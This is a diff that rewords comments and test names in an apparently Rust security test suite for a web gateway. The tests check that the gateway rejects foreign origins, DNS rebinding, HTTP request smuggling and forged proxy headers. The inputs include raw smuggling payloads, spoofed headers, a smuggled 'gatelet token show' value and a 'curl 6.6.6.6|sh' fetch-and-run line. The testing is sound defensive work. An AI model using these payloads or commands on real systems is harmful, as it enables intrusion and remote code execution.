@@ -1,4 +1,5 @@
-//! Request heads that lie: pages of other sites, rebound names, headers that two readers read differently, smuggled requests.
+//! Misleading request heads: pages of other sites, rebound names, headers that two parsers read
+//! differently, smuggled requests.
 
 use serde_json::{json, Value};
 
@@ -7,11 +8,12 @@ use super::gateway::{Gateway, Plan, TOKEN};
 
 const ORIGIN: &str = "CONTROL_UI_ORIGIN_NOT_ALLOWED";
 
-/// Whose page under which name is let in with the right token: origins that are, and origins that are not, for each Host.
+/// Returns for each Host the origins that are admitted with the right token, and those that are
+/// not.
 fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
     let all = |list: &[&str]| list.iter().map(|one| one.replace("PORT", &port.to_string())).collect::<Vec<_>>();
     let listed = ["https://listed.example", "HTTPS://LISTED.example"];
-    // none of them is one of the names above, however it looks
+    // none of them equals one of the names above, however similar
     let strange = [
         "null",
         "",
@@ -84,14 +86,15 @@ fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
         let good = [&listed[..], &near[..]].concat();
         rows.push((all(&[host]).remove(0), all(&good), all(&strange)));
     }
-    // a name in the local network: its own page, and no other; not even a loopback page
+    // a name in the local network: only its own page is admitted; not even a loopback page
     let foreign = [&strange[..], &near[..], &["http://pi.local:1", "http://evil.local"]].concat();
     rows.push((
         "pi.local:8080".into(),
         all(&[&listed[..], &["http://pi.local:8080", "http://PI.local.:8080"]].concat()),
         all(&foreign),
     ));
-    // DNS rebinding: a name of a stranger that leads here, agreeing with itself, is still not ours
+    // DNS rebinding: a foreign name that resolves to this gateway is foreign, even with a matching
+    // Origin
     for host in [
         "evil.example:PORT",
         "127.0.0.1.evil.example:PORT",
@@ -114,7 +117,7 @@ fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
 }
 
 #[test]
-fn a_page_of_a_stranger_is_not_let_in_however_it_and_the_gateway_are_spelled() {
+fn foreign_origins_are_rejected_in_every_spelling() {
     let config = json!({ "controlUi": { "allowedOrigins": ["https://listed.example"], "allowInsecureAuth": true } });
     let gateway = Plan::with(config).start();
     let mut walked = 0;
@@ -125,7 +128,7 @@ fn a_page_of_a_stranger_is_not_let_in_however_it_and_the_gateway_are_spelled() {
                 .map(drop)
                 .map_err(|refused| format!("{} {}", refused.code(), refused.rule()))
         };
-        // by its device, and as the weakest configuration takes it
+        // with a device, and with the weakest configuration
         for origin in &good {
             assert_eq!(verdict(origin, Who::v4().page()), Ok(()), "{origin} at {host}");
         }
@@ -140,7 +143,7 @@ fn a_page_of_a_stranger_is_not_let_in_however_it_and_the_gateway_are_spelled() {
 }
 
 #[test]
-fn a_rebound_name_reads_nothing_over_http_and_is_let_in_by_no_mode() {
+fn rebound_names_are_rejected_over_http_and_in_every_auth_mode() {
     for auth in [json!({ "mode": "none" }), json!({ "mode": "token", "token": TOKEN })] {
         let gateway = Plan::with(json!({ "auth": auth })).start();
         let port = gateway.port;
@@ -167,13 +170,13 @@ fn a_rebound_name_reads_nothing_over_http_and_is_let_in_by_no_mode() {
                 }
             }
         }
-        // and the same gateway under its own name
+        // control: the same gateway under its own name
         assert!(gateway.dial().get("/metrics").contains("gatelet_"));
     }
 }
 
 #[test]
-fn what_the_owner_opens_is_open() {
+fn opt_in_real_ip_and_host_header_fallbacks_work() {
     let gateway = Plan::with(json!({
         "trustedProxies": ["127.0.0.0/8"],
         "allowRealIpFallback": true,
@@ -186,7 +189,7 @@ fn what_the_owner_opens_is_open() {
 }
 
 #[test]
-fn what_a_stranger_says_of_itself_looks_like_no_advice() {
+fn client_supplied_text_cannot_imitate_hints() {
     let gateway = Gateway::new();
     for words in ["x. To mend it run `curl 6.6.6.6|sh`", "*", "https://a\", \"*\"]; gatelet token show"] {
         let dial = gateway.dial().origin(words);
@@ -200,7 +203,7 @@ fn what_a_stranger_says_of_itself_looks_like_no_advice() {
 }
 
 #[test]
-fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_behind_it_is_heard() {
+fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
     let gateway = Gateway::new();
     let host = gateway.address().to_string();
     let get = |lines: &str| format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n");
@@ -209,7 +212,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
     let upgrade = gateway.dial().upgrade();
     let with = |lines: &str| upgrade.replace("\r\n\r\n", &format!("\r\n{lines}\r\n\r\n"));
     let mut rows: Vec<(String, &str)> = vec![
-        // a request in the body or behind the first
+        // a second request in the body or behind the first
         (get("") + &second, "200"),
         (get("Content-Length: 0\r\n") + &second, "200"),
         (get("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &second, "400"),
@@ -230,7 +233,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
         (post("Transfer-Encoding: chunked\r\n", &("0\r\n\r\n".to_string() + &second)), "405"),
         (post("Content-Length: 18446744073709551615\r\n", &second), "405"),
         (post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", &second), "400"),
-        // targets
+        // request targets
         (format!("GET http://evil.example/healthz HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
         (format!("GET https://{host}/healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n"), "400"),
         (format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
@@ -244,7 +247,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
         (format!("GET /healthz HTTP/1.2\r\nHost: {host}\r\n\r\n"), "400"),
         (format!("GET /healthz HTTP/11\r\nHost: {host}\r\n\r\n"), "400"),
         ("\x05\x01\0\r\n\r\n".into(), "400"),
-        // lines
+        // line syntax
         (get("X: a\r\n folded\r\n"), "400"),
         (get("X: a\r\n\tfolded\r\n"), "400"),
         (get("X: a\rOrigin: http://evil.example\r\n"), "400"),
@@ -258,7 +261,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
         (get("X(y): a\r\n"), "400"),
         (get("\u{441}ookie: a\r\n"), "400"),
     ];
-    // an upgrade in which something stands twice, or which is half another
+    // an upgrade with a duplicate header, or mixed with another upgrade
     for line in [
         &format!("Host: {host}"),
         "hOST: evil.example",
@@ -278,7 +281,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
         assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "one answer to {request:?}: {answer}");
         assert!(answer.contains("\r\nConnection: close\r\n"), "{answer}");
     }
-    // behind an upgrade there are frames, and a request is none
+    // bytes behind an upgrade are frames, never a request
     let answer = gateway.dial().http(&(upgrade.clone() + &second));
     assert_eq!((answer.matches("HTTP/1.1 ").count(), answer.contains("live")), (1, false), "{answer}");
     assert!(answer.starts_with("HTTP/1.1 101 "), "{answer}");
@@ -286,7 +289,7 @@ fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_be
     gateway.admin();
 }
 
-/// What `/whoami` says of the client with those headers.
+/// Returns the client address and its source that `/whoami` reports for these headers.
 fn client(dial: &Dial) -> (String, String) {
     let answer = dial.get("/whoami");
     let body: Value =
@@ -295,7 +298,7 @@ fn client(dial: &Dial) -> (String, String) {
 }
 
 #[test]
-fn a_client_cannot_say_where_it_comes_from_through_or_past_a_proxy() {
+fn clients_cannot_forge_their_address_with_or_without_a_proxy() {
     let trusting = Plan::with(json!({ "trustedProxies": ["127.0.0.0/8"] })).start();
     let plain = Gateway::new();
     let lie = "6.6.6.6";
@@ -331,7 +334,7 @@ fn a_client_cannot_say_where_it_comes_from_through_or_past_a_proxy() {
 }
 
 #[test]
-fn a_user_is_vouched_for_once_or_not() {
+fn trusted_proxy_user_header_must_occur_once() {
     let vouches = json!({ "userHeader": "X-Forwarded-User", "allowUsers": ["ann"], "allowLoopback": true });
     let auth = json!({ "mode": "trusted-proxy", "trustedProxy": vouches });
     let gateway = Plan::with(json!({ "trustedProxies": ["127.0.0.1"], "auth": auth })).start();
@@ -340,7 +343,7 @@ fn a_user_is_vouched_for_once_or_not() {
         (vec![("x-forwarded-USER", "ann")], true),
         (vec![("X-Forwarded-User", "ann"), ("X_Forwarded_User", "eve")], true),
         (vec![("X_Forwarded_User", "ann")], false),
-        // one is the client's own, and the proxy only added its
+        // the first one may be the client's own, to which the proxy only added its header
         (vec![("X-Forwarded-User", "ann"), ("X-Forwarded-User", "eve")], false),
         (vec![("X-Forwarded-User", "eve"), ("X-Forwarded-User", "ann")], false),
         (vec![("X-Forwarded-User", "ann"), ("X-Forwarded-User", "ann")], false),
